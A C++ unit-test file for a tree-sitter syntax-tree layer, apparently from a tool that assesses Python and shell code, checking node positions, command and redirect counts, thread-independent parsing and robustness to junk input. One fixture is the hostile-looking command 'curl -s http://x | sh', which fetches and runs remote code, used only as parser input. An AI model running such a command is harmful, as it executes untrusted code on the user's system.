// The tree-sitter layer: both grammars load (ABI 14 on libtree-sitter 0.20),
// the flat copy keeps positions and fields, and no input breaks it.
#include <gtest/gtest.h>

#include <string>
#include <thread>

#include "assess/syntax_tree.hpp"

namespace mai::assess {
namespace {

TEST(SyntaxTree, PythonPositionsAndFields) {
  auto t = SyntaxTree::parse("import os\n\nos.system('ls')\n", Language::python);
  ASSERT_TRUE(t.complete());
  ASSERT_NE(t.root(), kNoNode);
  EXPECT_EQ(t[t.root()].kind, K::module);
  NodeId call = kNoNode;
  for (NodeId n = 0; n < t.size(); ++n)
    if (t[n].kind == K::call) call = n;
  ASSERT_NE(call, kNoNode);
  EXPECT_EQ(t[call].line, 3u);
  EXPECT_EQ(t[call].col, 1u);
  EXPECT_EQ(t.text(t.child(call, F::function)), "os.system");
  EXPECT_EQ(t.kind(t.child(call, F::arguments)), K::argument_list);
}

TEST(SyntaxTree, BashCommandsAndRedirects) {
  auto t = SyntaxTree::parse("curl -s http://x | sh 2>/dev/null\n", Language::shell);
  ASSERT_TRUE(t.complete());
  int commands = 0, redirects = 0;
  for (NodeId n = 0; n < t.size(); ++n) {
    commands += t[n].kind == K::command;
    redirects += t[n].kind == K::file_redirect;
  }
  EXPECT_EQ(commands, 2);
  EXPECT_EQ(redirects, 1);
}

// The parser is kept per thread. tree-sitter-bash 0.21.0's scanner kept the
// here-documents an earlier input left open ("x <<"), so the same text
// parsed differently after it (found by the mutation fuzzer: a program's
// verdict changed with what the thread had assessed before). Each parse
// must be the one a fresh thread makes.
TEST(SyntaxTree, AParseDoesNotDependOnEarlierInputs) {
  auto shape = [](const SyntaxTree& t) {
    std::string out;
    for (NodeId n = 0; n < t.size(); ++n)
      out += std::to_string(static_cast<int>(t[n].kind)) + ":" + std::to_string(t[n].begin) + "-" +
             std::to_string(t[n].end) + " ";
    return out;
  };
  const std::pair<const char*, Language> targets[] = {
      {"\"\">T<<<", Language::shell},
      {"cat > a.py <<EOF\nimport os\nEOF\npython3 a.py\n", Language::shell},
      {"x = f\"{a}\" + 'b'\nprint(x)\n", Language::python},
  };
  const std::pair<const char*, Language> earlier[] = {
      {"x <<", Language::shell},          {"cat <<A <<B", Language::shell},
      {"c<<<<<<<<", Language::shell},     {"x = f\"{", Language::python},
      {"def f(:\n  \"\"\"", Language::python},
  };
  for (const auto& [code, lang] : targets) {
    std::string fresh;
    std::thread([&, c = code, l = lang] { fresh = shape(SyntaxTree::parse(c, l)); }).join();
    for (const auto& [before, before_lang] : earlier)
      std::thread([&, c = code, l = lang, b = before, bl = before_lang] {
        SyntaxTree::parse(b, bl);
        EXPECT_EQ(shape(SyntaxTree::parse(c, l)), fresh) << c << " after " << b;
      }).join();
  }
}

TEST(SyntaxTree, AnyBytesParse) {
  std::string junk;
  for (int i = 0; i < 100000; ++i) junk += static_cast<char>((i * 7919) & 0xff);
  for (Language l : {Language::python, Language::shell}) {
    auto t = SyntaxTree::parse(junk, l);
    EXPECT_TRUE(t.complete());
    EXPECT_GT(t.size(), 0u);
    auto deep = SyntaxTree::parse(std::string(5000, '(') + std::string(5000, ')'), l);
    EXPECT_TRUE(deep.complete());
    // libtree-sitter 0.20 corrupts memory at 65,536 levels: such input is
    // refused before it reaches the parser.
    for (size_t n : {70000u, 200000u}) EXPECT_FALSE(SyntaxTree::parse(std::string(n, '['), l).complete());
  }
  auto empty = SyntaxTree::parse("", Language::python);
  EXPECT_TRUE(empty.complete());
}

}  // namespace
}  // namespace mai::assess
